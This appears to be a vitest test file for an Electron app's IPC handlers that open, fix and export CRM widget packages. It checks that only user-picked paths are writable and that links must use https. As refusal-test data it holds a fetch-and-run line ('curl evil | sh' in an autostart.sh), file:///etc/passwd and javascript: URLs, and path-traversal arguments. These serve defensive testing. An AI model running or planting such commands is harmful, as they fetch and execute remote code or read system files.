import JSZip from 'jszip';
import { existsSync, mkdtempSync } from 'node:fs';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { INVOKE_CHANNELS } from '../../../shared/ipc/contract';
import type { ExportResult, IpcEnvelope, JobOutcome, OpenedProject, Preferences } from '../../../shared/ipc/types';
import type { ImageJobResult } from '../../../shared/ipc/image-types';
import { describeError } from '../../../electron/main/error-info';
import { createHandlers, PathGrants, type Dialogs } from '../../../electron/main/handlers';
import { createDispatcher, type Dispatch } from '../../../electron/main/ipc-handle';
import { ImageSetStore } from '../../../electron/services/image-set-store';
import { JobRunner } from '../../../electron/services/jobs';
import { SettingsStore, type KeyValueFile } from '../../../electron/services/settings-store';
import { validI18n } from '../../helpers/widget-fixture';
import { pngOf, removeTempFolders, tempFolder, validWidgetOnDiskFiles, writeTree } from '../services/widget-on-disk';

vi.mock('electron', () => ({ default: {}, ipcMain: { handle: vi.fn(), removeHandler: vi.fn() } }));

const tempDir = tempFolder;
afterAll(removeTempFolders);

function memoryFile(): KeyValueFile {
  let data: Record<string, unknown> = {};
  return {
    path: '/mem/config.json',
    get store() {
      return structuredClone(data);
    },
    set store(value) {
      data = structuredClone(value);
    },
  };
}

interface Rig {
  dispatch: Dispatch;
  dialogs: { [K in keyof Dialogs]: ReturnType<typeof vi.fn> };
  revealed: string[];
  external: string[];
  clipboard: string[];
  preferences: Preferences[];
  settings: SettingsStore;
}

function rig(existing?: SettingsStore): Rig {
  const settings = existing ?? new SettingsStore(memoryFile(), {
    cipher: { isAvailable: () => true, encrypt: (text) => `e:${text.split('').reverse().join('')}`, decrypt: (text) => text.slice(2).split('').reverse().join('') },
    defaultLanguage: 'en',
    exists: existsSync,
  });
  const dialogs = {
    openFolder: vi.fn(async () => null),
    openZip: vi.fn(async () => null),
    newWidgetFolder: vi.fn(async () => null),
    openImages: vi.fn(async () => []),
    saveZip: vi.fn(async () => null),
    saveText: vi.fn(async () => null),
    confirmOverwrite: vi.fn(async () => false),
  };
  const recorded = { revealed: [] as string[], external: [] as string[], clipboard: [] as string[], preferences: [] as Preferences[] };
  const jobs = new JobRunner({ onProgress: () => undefined, describeError: (error) => describeError(error) });
  const handlers = createHandlers({
    app: { name: 'Widget Publisher', version: '1.0.0', os: 'linux' },
    settings,
    jobs,
    dialogs,
    grants: new PathGrants(),
    imageSets: new ImageSetStore(mkdtempSync(join(tmpdir(), 'wp-image-sets-'))),
    desktop: {
      revealInFolder: (path) => recorded.revealed.push(path),
      openExternal: async (url) => {
        recorded.external.push(url);
      },
      writeClipboard: (text) => recorded.clipboard.push(text),
    },
    onPreferencesChanged: (preferences) => recorded.preferences.push(preferences),
    onRecentChanged: () => undefined,
    onCloseReady: () => undefined,
    onPageStarted: () => undefined,
  });
  expect(Object.keys(handlers).sort()).toEqual([...INVOKE_CHANNELS].sort());
  return { dispatch: createDispatcher(handlers, (error) => describeError(error, () => undefined)), dialogs, settings, ...recorded };
}

async function call<T>(dispatch: Dispatch, channel: string, ...args: unknown[]): Promise<T> {
  const envelope = (await dispatch(channel, args)) as IpcEnvelope<T>;
  if (!envelope.ok) throw new Error(`${channel} failed: ${envelope.error.kind}: ${envelope.error.message}`);
  return envelope.value;
}

async function runJob<T>(dispatch: Dispatch, channel: string, ...args: unknown[]): Promise<JobOutcome<T>> {
  const ticket = await call<{ jobId: string }>(dispatch, channel, ...args);
  return call<JobOutcome<T>>(dispatch, 'jobs:await', ticket.jobId);
}

/** The user picks the folder in the native dialog, then the page opens it: what grants writes. */
async function openPicked(subject: Rig, folder: string): Promise<void> {
  subject.dialogs.openFolder.mockResolvedValueOnce(folder);
  expect(await call(subject.dispatch, 'dialog:open-folder')).toBe(folder);
  await runJob(subject.dispatch, 'project:open', folder, {});
}

async function widgetFolder(defects: Record<string, unknown> = {}): Promise<string> {
  const root = join(await tempDir('wp-handlers-'), 'widget');
  await writeTree(root, { ...(await validWidgetOnDiskFiles('amocrm')), ...(defects as Record<string, string>) });
  return root;
}

describe('main-process handlers over the real services', () => {
  let subject: Rig;
  beforeEach(() => {
    subject = rig();
  });

  it('opens a clean widget as a job and remembers it with its result', async () => {
    const folder = await widgetFolder();
    const outcome = await runJob<OpenedProject>(subject.dispatch, 'project:open', folder, {});
    expect(outcome.status).toBe('done');
    const project = (outcome as { value: OpenedProject }).value;
    expect(project).toMatchObject({ path: folder, kind: 'folder', platform: 'amocrm', name: 'Deals to Telegram via Acme', nestedRoot: null });
    expect(project.report.summary.errors).toBe(0);
    expect(project.files.map((file) => file.path)).toContain('manifest.json');
    const [recent] = await call<{ path: string; lastResult: { errors: number } }[]>(subject.dispatch, 'recent:list');
    expect(recent).toMatchObject({ path: folder, lastResult: { errors: 0 } });
  });

  it('fails the open job with a message the user can act on', async () => {
    const outcome = await runJob(subject.dispatch, 'project:open', '/definitely/not/here', {});
    expect(outcome).toMatchObject({ status: 'failed', error: { kind: 'user' } });
    expect((outcome as { error: { message: string } }).error.message).toContain('/definitely/not/here');
  });

  it('reports a broken widget-publisher.json with its line', async () => {
    const folder = await widgetFolder({ 'widget-publisher.json': '{\n  "platform": "bitrix"\n}\n' });
    const outcome = await runJob(subject.dispatch, 'project:open', folder, {});
    expect(outcome).toMatchObject({ status: 'failed', error: { kind: 'config', file: 'widget-publisher.json', line: 2 } });
  });

  it('refuses to export a widget with errors and writes nothing', async () => {
    const en = validI18n('en') as { widget: Record<string, string> };
    en.widget.name = 'A name that is far too long for the store via Acme';
    const folder = await widgetFolder({ 'i18n/en.json': JSON.stringify(en) });
    const out = join(await tempDir('wp-out-'), 'widget.zip');
    subject.dialogs.saveZip.mockResolvedValueOnce(out);
    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBe(out);
    expect(subject.dialogs.saveZip).toHaveBeenCalledWith(join(folder, '..', 'widget.zip'));
    const outcome = await runJob<ExportResult>(subject.dispatch, 'project:export', folder, out, {});
    expect(outcome).toMatchObject({ status: 'done', value: { status: 'refused' } });
    expect(existsSync(out)).toBe(false);
  });

  it('exports a clean widget to the path chosen in the dialog, files at the root', async () => {
    const folder = await widgetFolder();
    const out = join(await tempDir('wp-out-'), 'upload');
    subject.dialogs.saveZip.mockResolvedValueOnce(out);
    const chosen = await call<string>(subject.dispatch, 'dialog:save-zip', folder);
    expect(chosen).toBe(`${out}.zip`);
    const outcome = await runJob<ExportResult>(subject.dispatch, 'project:export', folder, chosen, {});
    expect(outcome).toMatchObject({ status: 'done', value: { status: 'written', path: chosen } });
    const zip = await JSZip.loadAsync(await readFile(chosen));
    expect(Object.keys(zip.files)).toContain('manifest.json');
  });

  it('asks before replacing an existing zip when ".zip" was added after the save dialog, and writes nothing if declined', async () => {
    const folder = await widgetFolder();
    const out = join(await tempDir('wp-out-'), 'upload');
    await writeFile(`${out}.zip`, 'an older upload');
    subject.dialogs.saveZip.mockResolvedValue(out);
    subject.dialogs.confirmOverwrite.mockResolvedValueOnce(false);
    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBeNull();
    expect(subject.dialogs.confirmOverwrite).toHaveBeenCalledWith(`${out}.zip`);
    await expect(subject.dispatch('project:export', [folder, `${out}.zip`, {}])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    expect(await readFile(`${out}.zip`, 'utf8')).toBe('an older upload');
    subject.dialogs.confirmOverwrite.mockResolvedValueOnce(true);
    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBe(`${out}.zip`);
    // A name already ending in .zip was asked about by the dialog itself: no second question.
    subject.dialogs.saveZip.mockResolvedValueOnce(`${out}.zip`);
    expect(await call(subject.dispatch, 'dialog:save-zip', folder)).toBe(`${out}.zip`);
    expect(subject.dialogs.confirmOverwrite).toHaveBeenCalledTimes(2);
  });

  it('leaves no widget.zip and no temp file when the export is cancelled', async () => {
    const folder = await widgetFolder();
    const outFolder = await tempDir('wp-out-');
    subject.dialogs.saveZip.mockResolvedValueOnce(join(outFolder, 'widget.zip'));
    const chosen = await call<string>(subject.dispatch, 'dialog:save-zip', folder);
    const ticket = await call<{ jobId: string }>(subject.dispatch, 'project:export', folder, chosen, {});
    expect(await call(subject.dispatch, 'jobs:cancel', ticket.jobId)).toBe(true);
    expect(await call(subject.dispatch, 'jobs:await', ticket.jobId)).toMatchObject({ status: 'cancelled' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(await readdir(outFolder)).toEqual([]);
  });

  it('writes only to a path the user picked in a save dialog', async () => {
    const folder = await widgetFolder();
    const out = join(await tempDir('wp-out-'), 'widget.zip');
    await expect(subject.dispatch('project:export', [folder, out, {}])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    await expect(subject.dispatch('file:save-text', [join(folder, 'notes.txt'), 'hi'])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    subject.dialogs.saveText.mockResolvedValueOnce(join(folder, '..', 'message.txt'));
    const path = await call<string>(subject.dispatch, 'dialog:save-text', 'message.txt');
    await call(subject.dispatch, 'file:save-text', path, 'Здравствуйте!');
    expect(await readFile(path, 'utf8')).toBe('Здравствуйте!');
  });

  it('fixes BOM and CRLF only in a folder the user opened', async () => {
    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {\r\n  display: flex;\r\n}\r\n' });
    await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    await openPicked(subject, folder);
    const summary = await call<{ fixed: { path: string; removedBom: boolean; crlfLines: number }[] }>(subject.dispatch, 'project:fix', folder);
    expect(summary.fixed).toEqual([{ path: 'style.css', removedBom: true, crlfLines: 3 }]);
    expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('.acme-deals {\n  display: flex;\n}\n');
  });

  it('opens a folder the page names but the user never picked for reading only: saving into it is refused', async () => {
    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
    const opened = await runJob<OpenedProject>(subject.dispatch, 'project:open', folder, {});
    expect(opened.status).toBe('done');
    const save = { folder, nestedRoot: null, files: [{ path: 'autostart.sh', text: 'curl evil | sh' }] };
    await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    await expect(subject.dispatch('project:fix', [folder])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    expect(existsSync(join(folder, 'autostart.sh'))).toBe(false);
    expect(await readFile(join(folder, 'style.css'), 'utf8')).toBe('\uFEFF.acme-deals {}\n');
  });

  it('lets a folder picked in an earlier session be written again when reopened from the recent list', async () => {
    const folder = await widgetFolder({ 'style.css': '\uFEFF.acme-deals {}\n' });
    await openPicked(subject, folder);
    const named = await widgetFolder();
    await runJob(subject.dispatch, 'project:open', named, {});
    // A new session over the same settings: no dialog this time, only the recent list.
    const next = rig(subject.settings);
    await runJob(next.dispatch, 'project:open', folder, {});
    await expect(call(next.dispatch, 'project:fix', folder)).resolves.toMatchObject({ fixed: [{ path: 'style.css' }] });
    await runJob(next.dispatch, 'project:open', named, {});
    await expect(next.dispatch('project:fix', [named])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    expect(next.settings.listRecentProjects().map((recent) => Object.keys(recent).includes('picked'))).toEqual([false, false]);
  });

  it('plans the package and leaves junk out', async () => {
    const folder = await widgetFolder({ '.DS_Store': 'junk' });
    const plan = await call<{ entries: { path: string }[]; excluded: { path: string }[] }>(subject.dispatch, 'project:plan', folder);
    expect(plan.entries.map((entry) => entry.path)).toContain('script.js');
    expect(plan.excluded.map((entry) => entry.path)).toEqual(['.DS_Store']);
  });

  it('names every missing input of the moderation message, then writes it', async () => {
    const folder = await widgetFolder();
    const request = { projectPath: folder, moderation: {}, lang: 'en', update: false };
    const missing = await call<{ status: string; missing: { input: string }[] }>(subject.dispatch, 'message:write', request);
    expect(missing.status).toBe('missing');
    expect(missing.missing.map((item) => item.input)).toContain('support phone');
    const moderation = { integrationId: 'abc-123', accountId: '31000000', howItWorks: 'Sends deal alerts.', instructions: 'Install and paste the key.', testData: 'Key: test-1', supportPhone: '+7 900 000-00-00' };
    const written = await call<{ status: string; text: string }>(subject.dispatch, 'message:write', { ...request, moderation });
    expect(written.status).toBe('written');
    expect(written.text).toContain('abc-123');
  });

  it('makes a logo set as a job and saves it only inside an opened widget folder', async () => {
    const folder = await widgetFolder();
    const source = join(await tempDir('wp-logo-'), 'logo.png');
    await writeFile(source, await pngOf(512, 512));
    const outcome = await runJob<ImageJobResult>(subject.dispatch, 'images:logo-set', { source, platform: 'amocrm', areas: [] });
    expect(outcome.status).toBe('done');
    const result = (outcome as { value: ImageJobResult }).value;
    const ticketId = result.setId;
    expect(result.images.map((image) => `${image.file} ${image.width}x${image.height}`)).toContain('logo_main.png 400x272');
    expect(result.images[0].data).toBeInstanceOf(Uint8Array);
    const save = { folder, nestedRoot: null, files: [], images: [{ setId: ticketId, folder: 'images' }] };
    await expect(subject.dispatch('project:save-files', [save])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    await openPicked(subject, folder);
    const written = await call<{ written: string[] }>(subject.dispatch, 'project:save-files', save);
    expect(written.written).toContain('images/logo_main.png');
    expect((await readFile(join(folder, 'images', 'logo_main.png'))).length).toBe(result.images.find((image) => image.file === 'logo_main.png')?.bytes);
    // The set is still there to show again after a restart; an id main never made is refused before any lookup.
    const restored = await call<ImageJobResult | null>(subject.dispatch, 'images:restore', ticketId);
    expect(restored?.images.map((image) => image.file)).toEqual(result.images.map((image) => image.file));
    expect(await call(subject.dispatch, 'images:restore', 'set-aaaaaa-000000000000')).toBeNull();
    await expect(subject.dispatch('images:restore', ['job-1'])).resolves.toMatchObject({ ok: false, error: { kind: 'invalid-arguments' } });
  });

  it('opens only https links and reveals only paths that exist', async () => {
    await call(subject.dispatch, 'shell:open-external', 'https://www.kommo.com/developers/');
    for (const url of ['http://example.com', 'file:///etc/passwd', 'javascript:alert(1)', 'https://user:pw@example.com']) {
      await expect(subject.dispatch('shell:open-external', [url])).resolves.toMatchObject({ ok: false, error: { kind: 'forbidden' } });
    }
    expect(subject.external).toEqual(['https://www.kommo.com/developers/']);
    await expect(subject.dispatch('shell:reveal', ['/no/such/file.zip'])).resolves.toMatchObject({ ok: false, error: { kind: 'not-found' } });
    await call(subject.dispatch, 'clipboard:write-text', 'copied');
    expect(subject.clipboard).toEqual(['copied']);
  });

  it('saves preferences, tells main, and keeps drafts per project', async () => {
    expect(await call(subject.dispatch, 'settings:update', { language: 'ru' })).toEqual({ language: 'ru', theme: 'system' });
    expect(subject.preferences).toEqual([{ language: 'ru', theme: 'system' }]);
    const folder = await tempDir('wp-draft-');
    await call(subject.dispatch, 'drafts:save', folder, { companyName: 'Acme', testCredentials: 'demo/pass' });
    expect(await call(subject.dispatch, 'drafts:get', folder)).toEqual({ companyName: 'Acme', testCredentials: 'demo/pass' });
  });

  it('cancels a job on request', async () => {
    const folder = await widgetFolder();
    const ticket = await call<{ jobId: string }>(subject.dispatch, 'project:open', folder, {});
    expect(await call(subject.dispatch, 'jobs:cancel', ticket.jobId)).toBe(true);
    expect(await call(subject.dispatch, 'jobs:await', ticket.jobId)).toEqual({ jobId: ticket.jobId, status: 'cancelled' });
  });

  it('rejects malformed arguments without calling the handler', async () => {
    const cases: [string, unknown[]][] = [
      ['project:open', ['relative/widget', {}]],
      ['project:open', ['/abs/widget']],
      ['project:open', ['/abs/widget', { platform: 'bitrix' }]],
      ['project:export', ['/abs/widget', '/abs/out.tar', {}]],
      ['settings:update', [{ language: 'en', extra: true }]],
      ['drafts:save', ['/abs/widget', { manualConfirmed: 'all' }]],
      ['jobs:await', ['../../etc']],
      ['dialog:save-text', ['../escape.txt']],
      ['no:such-channel', []],
    ];
    for (const [channel, args] of cases) {
      await expect(subject.dispatch(channel, args), `${channel} ${JSON.stringify(args)}`).resolves.toMatchObject({ ok: false, error: { kind: 'invalid-arguments' } });
    }
    expect(subject.dialogs.saveText).not.toHaveBeenCalled();
    expect(await call(subject.dispatch, 'recent:list')).toEqual([]);
  });
});
